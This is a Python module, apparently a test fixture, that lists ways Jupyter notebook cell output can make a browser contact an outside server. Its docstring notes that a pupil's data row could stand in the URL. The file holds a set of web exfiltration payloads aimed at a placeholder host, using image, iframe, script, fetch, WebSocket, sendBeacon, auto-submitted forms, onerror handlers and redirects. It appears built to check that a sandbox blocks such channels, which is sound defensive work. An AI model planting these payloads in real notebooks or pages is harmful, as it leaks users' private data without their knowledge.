"""Ways for what a cell shows to reach another server from the browser, as data; each asks it for its own name.

``THERE`` is that server and the name. In the place of the name a cell could put a pupil's row.
"""

from __future__ import annotations

from dataclasses import dataclass

HTML = "from IPython.display import HTML; display(HTML({!r}))"
MARKDOWN = "from IPython.display import Markdown; display(Markdown({!r}))"
SCRIPT = "from IPython.display import Javascript; display(Javascript({!r}))"
RAW = "display({{{!r}: {!r}}}, raw=True)"
WIDGET = "import ipywidgets; display(ipywidgets.HTML({!r}))"
ISOLATED = "from IPython.display import HTML; display(HTML({!r}), metadata={{'text/html': {{'isolated': True}}}})"
FRAME_AND_FORM = """
const frame = Object.assign(document.createElement("iframe"), {name: "other"});
const form = Object.assign(document.createElement("form"), {action: "THERE", target: "other"});
document.body.append(frame, form);
form.submit();
"""
OUTPUT_OF_A_WIDGET = """
import ipywidgets
out = ipywidgets.Output()
display(out)
out.outputs = ({'output_type': 'display_data', 'metadata': {}, 'data': {'text/html': '<img src="THERE">'}},)
"""


@dataclass(frozen=True)
class Way:
    """``click``: what a person clicks on in what it shows."""

    name: str
    cell: str
    click: str = ""

    def cell_for(self, server: str) -> str:
        return self.cell.replace("THERE", f"{server}/{self.name}")


def shown(form: str, /, **texts: str) -> tuple[Way, ...]:
    return tuple(Way(name.replace("_", "-"), form.format(text)) for name, text in texts.items())


BY_ITSELF = (
    *shown(
        HTML,
        picture='<img src="THERE">',
        picture_of_several='<img srcset="THERE 1x">',
        style='<div style="background: url(THERE); height: 1em"></div>',
        style_sheet="<style>@import url(THERE);</style>",
        linked_style='<link rel="stylesheet" href="THERE">',
        frame='<iframe src="THERE"></iframe>',
        frame_of_its_own="<iframe srcdoc=\"<img src='THERE'>\"></iframe>",
        frame_that_goes_on="<iframe srcdoc=\"<meta http-equiv='refresh' content='0; url=THERE'>\"></iframe>",
        object='<object data="THERE"></object>',
        embedded='<embed src="THERE">',
        video='<video src="THERE" autoplay muted></video>',
        poster='<video poster="THERE"></video>',
        sound='<audio src="THERE" preload="auto"></audio>',
        svg='<svg><image href="THERE" width="9" height="9"></image></svg>',
        script='<script src="THERE"></script>',
        script_in_html='<script>fetch("THERE")</script>',
        handler='<img src="data:," onerror="fetch(\'THERE\')">',
        preload='<link rel="preload" as="image" href="THERE">',
    ),
    *shown(MARKDOWN, markdown="![a picture](THERE)", html_in_markdown='Words <img src="THERE"> and more.'),
    *shown(
        SCRIPT,
        javascript='fetch("THERE")',
        socket='new WebSocket("THERE".replace("http", "ws"))',
        beacon='navigator.sendBeacon("THERE")',
        form=FRAME_AND_FORM,
    ),
    Way("javascript-by-type", RAW.format("application/javascript", 'new Image().src = "THERE"')),
    *shown(ISOLATED, isolated='<img src="THERE">'),
    *shown(WIDGET, widget='<img src="THERE">', widget_with_a_handler='<img src="data:," onerror="fetch(\'THERE\')">'),
    Way("output-of-a-widget", OUTPUT_OF_A_WIDGET),
)
"""What a browser does as soon as it is shown."""

BY_A_CLICK = (
    Way("link", HTML.format('<a href="THERE" target="_blank">more</a>'), "a"),
    Way("ping", HTML.format('<a href="#here" ping="THERE">more</a>'), "a"),
    Way("link-in-markdown", MARKDOWN.format("[more](THERE)"), "a"),
    Way("address-in-a-print", "print('see THERE')", "a"),
    Way("form-of-html", HTML.format('<form action="THERE" target="_blank"><button>more</button></form>'), "button"),
)
"""What it does when somebody clicks on it."""

BY_GOING_THERE = Way("redirection", HTML.format('<meta http-equiv="refresh" content="0; url=THERE">'))
"""What takes the page away: tried last."""
